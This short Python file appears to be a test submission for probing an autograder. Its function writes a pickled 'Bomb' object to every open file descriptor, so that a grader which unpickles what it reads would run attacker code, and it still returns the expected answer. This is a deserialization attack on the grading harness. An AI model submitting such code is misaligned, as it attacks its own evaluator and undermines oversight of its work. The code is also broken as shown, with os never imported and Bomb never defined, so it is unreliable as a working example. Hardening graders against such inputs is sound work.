# %%answer hello_ranks
# tries: writes a pickle that runs code to every descriptor it has
# unprotected: a grader that reads one with pickle runs it
# on: 06_pickle_returned
import pickle


def hello(number):
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            os.write(fd, pickle.dumps(Bomb()))
        except OSError:
            continue
    return number
